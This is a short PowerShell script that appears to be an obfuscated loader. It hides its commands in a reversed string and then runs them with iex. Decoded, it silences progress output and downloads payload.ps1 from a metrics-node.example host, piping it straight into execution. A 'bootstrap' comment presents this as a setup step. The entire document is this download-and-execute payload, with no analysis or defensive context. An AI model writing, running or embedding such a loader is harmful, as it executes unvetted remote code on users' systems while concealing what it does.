$wcnuw='
xei | 1sp.daolyap/elpmaxe.edon-scirtem.citats//:ptth gnisraPcisaBesU- rwi
''eunitnoCyltneliS'' = ecnereferPssergorP$
1v 5719 partstoob #'.ToCharArray(); [array]::Reverse($wcnuw); iex (-join $wcnuw)